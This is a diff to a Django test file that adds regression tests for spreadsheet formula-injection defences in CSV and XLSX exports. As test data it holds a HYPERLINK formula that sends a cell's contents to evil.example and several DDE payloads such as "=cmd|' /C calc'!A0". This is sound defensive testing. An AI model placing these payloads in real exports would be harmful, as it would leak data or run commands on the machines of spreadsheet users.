@@ -4,6 +4,7 @@ up must reach state staff's spreadsheet as text."""
 
 import csv
 import io
+import re
 
 import pytest
 from django.contrib import admin
@@ -15,6 +16,7 @@ from openpyxl import load_workbook
 from cvms.accounts.tests.factories import UserFactory
 from cvms.core.exports import SafeCSV, SafeXLSX
 from cvms.core.spreadsheet import safe_cell
+from cvms.organizations.models import Organization
 from enrollment.tests.factories import approved_agreement
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -80,6 +82,59 @@ def test_admin_offers_only_the_escaping_formats():
 ])
 def test_safe_cell_prefixes_what_a_spreadsheet_would_run(value, expected):
     assert safe_cell(value) == expected
+
+
+@pytest.mark.parametrize("value", [
+    "\N{NO-BREAK SPACE}=1+1", "\N{EM SPACE}+A1", "\N{IDEOGRAPHIC SPACE}@SUM(A1)", "\N{NARROW NO-BREAK SPACE}-x",
+    " \N{NO-BREAK SPACE} \N{THIN SPACE}=1", "\N{ZERO WIDTH SPACE}=1", "\N{ZERO WIDTH NO-BREAK SPACE}=1", "\v=1",
+    "\N{FULLWIDTH EQUALS SIGN}cmd|' /C calc'!A0", "\N{FULLWIDTH PLUS SIGN}A1", "\N{FULLWIDTH HYPHEN-MINUS}x",
+    "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)", "\N{SMALL EQUALS SIGN}1", "\N{NO-BREAK SPACE}\N{FULLWIDTH EQUALS SIGN}1",
+])
+def test_safe_cell_sees_a_formula_behind_any_unicode_space_and_in_fullwidth_forms(value):
+    assert safe_cell(value) == f"'{value}"
+
+
+@pytest.mark.parametrize("value", ["\N{NO-BREAK SPACE}-5", "\N{FULLWIDTH HYPHEN-MINUS}5", "Ana\N{NO-BREAK SPACE}=",
+                                   "\N{NO-BREAK SPACE}Smith"])
+def test_safe_cell_leaves_numbers_and_plain_text_behind_unicode_spaces_alone(value):
+    assert safe_cell(value) == value
+
+
+SEMICOLON_ATTACK = "Coastal;=cmd|' /C calc'!A0"
+_QUOTED_LINE = re.compile(r'"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*')
+
+
+def _every_field_quoted(content: bytes) -> list[str]:
+    """The lines of ``content`` in which some field is not quoted (so a spreadsheet that splits on
+    ``;`` would split it)."""
+    text = content.decode("utf-8-sig")
+    assert text.endswith("\r\n")
+    return [line for line in text[:-2].split("\r\n") if not _QUOTED_LINE.fullmatch(line)]
+
+
+def test_admin_csv_export_quotes_every_field_so_a_semicolon_cannot_start_a_cell(client, tenant_a):
+    Organization.objects.filter(pk=tenant_a.organization.pk).update(name=SEMICOLON_ATTACK)
+    client.force_login(UserFactory(email="root@example.com", is_staff=True, is_superuser=True))
+    url = reverse("admin:organizations_organization_export")
+    form = client.get(url).context["form"]
+    data = {name: "on" for name, field in form.fields.items() if field.widget.input_type == "checkbox"}
+    data.update(resource="0", format="0")
+    response = client.post(url, data)
+    content = b"".join(response) if response.streaming else response.content
+    assert f'"{SEMICOLON_ATTACK}"'.encode() in content
+    assert _every_field_quoted(content) == []
+
+
+def test_failed_records_and_template_csvs_quote_every_field():
+    from types import SimpleNamespace
+
+    from cvms.uploads.files import failed_records_csv, template_csv
+
+    error = SimpleNamespace(values=[SEMICOLON_ATTACK, "Lopez", "01/02/1990", ""], message="Line 2: bad")
+    failed = failed_records_csv(["FirstName", "LastName", "Date of birth", "Email"], [error])
+    assert f'"{SEMICOLON_ATTACK}"'.encode() in failed
+    assert _every_field_quoted(failed) == []
+    assert _every_field_quoted(template_csv()) == []
 
 
 def test_xlsx_export_keeps_numbers_and_replaces_control_characters():
